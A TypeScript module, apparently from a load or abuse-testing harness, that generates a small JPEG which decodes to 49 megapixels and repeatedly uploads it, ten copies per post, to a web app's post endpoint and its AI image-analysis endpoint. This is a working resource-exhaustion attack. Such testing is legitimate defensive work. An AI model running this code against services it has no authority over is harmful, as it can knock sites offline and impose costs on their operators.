import sharp from 'sharp'
import { type Attacker, type Bounds, call, repeat } from './attack.ts'

/** A picture with the most pixels allowed, in a few kilobytes. */
export const hugePicture = async (): Promise<File> => {
  const image = { width: 7_000, height: 7_000, channels: 3, background: '#357' } as const
  const bytes = await sharp({ create: image }).jpeg({ quality: 30 }).toBuffer()
  return new File([new Uint8Array(bytes)], 'photo.jpg')
}

/** Posts with ten pictures of 49 megapixels each. */
export function postPictures(attacker: Attacker, bounds: Bounds, picture: File): Promise<void> {
  return repeat(bounds, (index, signal) => {
    const body = new FormData()
    const fields = {
      content: `Pictures ${index}`,
      privacy: 'private',
      anonymous: 'false',
      postType: 'regular',
    }
    for (const [name, value] of Object.entries(fields)) body.append(name, value)
    for (let count = 0; count < 10; count += 1) body.append('files', picture)
    return call(attacker, { path: '/api/posts', method: 'POST', body }, signal)
  })
}

/** Requests the analysis of pictures. */
export function analyzePictures(attacker: Attacker, bounds: Bounds, picture: File): Promise<void> {
  return repeat(bounds, (_, signal) => {
    const body = new FormData()
    body.append('prompt', '')
    body.append('image', picture)
    return call(attacker, { path: '/api/ai/analyze-image', method: 'POST', body }, signal)
  })
}
